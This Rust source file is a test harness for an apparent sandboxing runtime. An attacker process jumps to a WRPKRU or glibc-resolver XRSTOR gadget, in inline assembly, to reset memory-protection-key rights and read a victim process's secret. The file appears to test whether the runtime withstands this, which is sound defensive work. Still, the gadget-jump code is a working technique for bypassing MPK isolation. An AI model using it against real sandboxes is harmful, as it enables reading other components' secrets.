//! An attack with instructions of trusted code, and its victim. The attacker jumps to a WRPKRU or an XRSTOR that some
//! library brings along, with all rights in the registers or the memory that it takes them from, comes back, and reads the
//! victim's secret. If that ends it, it is tried again, and then lets the victim go on without attacking.
//!
//! `role` is `victim` or `attacker`; `how` is `wrpkru` (followed by a return) or `xrstor` (as in glibc's resolver), and
//! `address` is where that lies. A function cannot know it: the test finds out.
#![no_std]
#![allow(unsafe_code, reason = "it is an attack: neither code nor memory are its own")]

use core::arch::asm;
use core::sync::atomic::{AtomicU64, Ordering};
use monohull_std::error::Error;
use monohull_std::prelude::*;
use monohull_std::slot::{SlotBuffer, SlotVec};

/// What the victim keeps.
const SECRET: u64 = 0x5ec2_e75e_c2e7_5ec2;

#[monohull::main]
fn main(role: String, how: Option<String>, address: Option<u64>) -> Result<(), Box<dyn Error>> {
    match (role.as_str(), how.as_deref(), address) {
        ("victim", ..) => victim(),
        ("attacker", Some(how), Some(address)) => attacker(how, address),
        _ => Err("role is victim, or attacker with how and address".into()),
    }
}

fn victim() -> Result<(), Box<dyn Error>> {
    let secret = Box::new(AtomicU64::new(SECRET));
    let mut where_it_is = SlotVec::<u64>::with_slot("secret");
    where_it_is.push(secret.as_ptr() as u64);
    where_it_is.publish()?;
    SlotBuffer::<[u64]>::from_slot("done")?.discard();
    println!("{}", if secret.load(Ordering::Relaxed) == SECRET { "intact" } else { "harmed" });
    Ok(())
}

fn attacker(how: &str, address: u64) -> Result<(), Box<dyn Error>> {
    let secret = SlotBuffer::<[u64]>::from_slot("secret")?[0];
    if monohull::instance().attempt == 1 {
        match how {
            // SAFETY: none; it is an attack.
            "wrpkru" => unsafe { jump_to_wrpkru(address) },
            // SAFETY: none; it is an attack.
            "xrstor" => unsafe { jump_to_xrstor(address) },
            _ => return Err("nothing is called that".into()),
        }
        // SAFETY: none; it is an attack.
        println!("read {:#x}", unsafe { (secret as *const u64).read_volatile() });
    }
    SlotVec::<u64>::with_slot("done").publish()?;
    Ok(())
}

/// # Safety
/// None; it is an attack.
#[inline(never)]
unsafe fn jump_to_wrpkru(address: u64) {
    // SAFETY: none; it is an attack. What follows the instruction is a return.
    unsafe { asm!("call {}", in(reg) address, inout("eax") 0 => _, in("ecx") 0, in("edx") 0, clobber_abi("C")) }
}

/// Memory that the resolver has on its stack: eight words of registers, then what XRSTOR loads. A header of zeros says that
/// every component is in its initial state; that of the key rights is "all".
#[repr(C, align(64))]
struct Frame([u8; 4096]);

/// # Safety
/// None; it is an attack.
#[inline(never)]
unsafe fn jump_to_xrstor(address: u64) {
    let frame = Box::new(Frame([0; 4096]));
    // SAFETY: none; it is an attack. What follows the instruction takes six registers from the frame, the stack back from
    // rbx, rbx from there, three words off the stack, and goes on at r11.
    unsafe {
        asm!(
            "sub rsp, 0x18",
            "mov [rsp], rbx",
            "mov rbx, rsp",
            "mov rsp, rsi",
            "lea r11, [rip + 2f]",
            // The key rights alone.
            "mov eax, 0x200",
            "xor edx, edx",
            "jmp rdi",
            "2:",
            inout("rdi") address => _,
            inout("rsi") &raw const *frame => _,
            clobber_abi("C"),
        );
    }
}
